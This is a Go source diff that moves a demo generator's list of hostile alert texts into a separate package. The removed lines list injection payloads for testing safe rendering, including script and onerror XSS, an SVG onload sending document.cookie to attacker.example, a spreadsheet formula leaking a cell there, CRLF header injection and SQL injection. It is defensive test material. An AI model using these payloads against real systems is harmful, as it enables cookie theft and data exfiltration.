@@ -1,25 +1,11 @@
 package demo
 
-// attacks are texts that harm a page, a terminal, a log or a spreadsheet that takes them for anything but text.
-// Alerts are written by attackers as much as by products: a mail subject or a file name is theirs to choose.
-var attacks = []string{
-	`<script>document.title='owned'</script>`,
-	`"><img src=x onerror="document.title='owned'">`,
-	`<svg/onload=fetch('//attacker.example/'+document.cookie)>`,
-	`javascript:alert(document.domain)`,
-	`{{constructor.constructor('return document.cookie')()}}`,
-	`</textarea><iframe srcdoc="<script>parent.document.title='owned'</script>">`,
-	`=HYPERLINK("https://attacker.example/?"&A1,"open me")`,
-	"\u202egnp.exe\u202c is not a picture",
-	"line one\r\nSet-Cookie: owned=1\r\n\r\n<b>line two</b>",
-	"\u001b[2J\u001b[31mall clear\u001b[0m",
-	`'; DROP TABLE alerts; --`,
-	`<a href="data:text/html,<script>alert(1)</script>">details</a>`,
-}
+import "github.com/bailiwick/bailiwick/internal/hostile"
 
-// hostile writes the attacks into the texts of a few alerts of every kind: title, description, names of files,
-// devices, people and subjects.
+// hostile writes texts that harm who takes them for anything but text into a few alerts of every kind: title, description, names of
+// files, devices, people and subjects. Alerts are written by attackers as much as by products.
 func (g *generator) hostile() {
+	attacks := hostile.Demo()
 	step := len(g.alertList) / hostileCount
 	for i := range hostileCount {
 		a, text := g.alertList[10+i*step], attacks[i%len(attacks)]
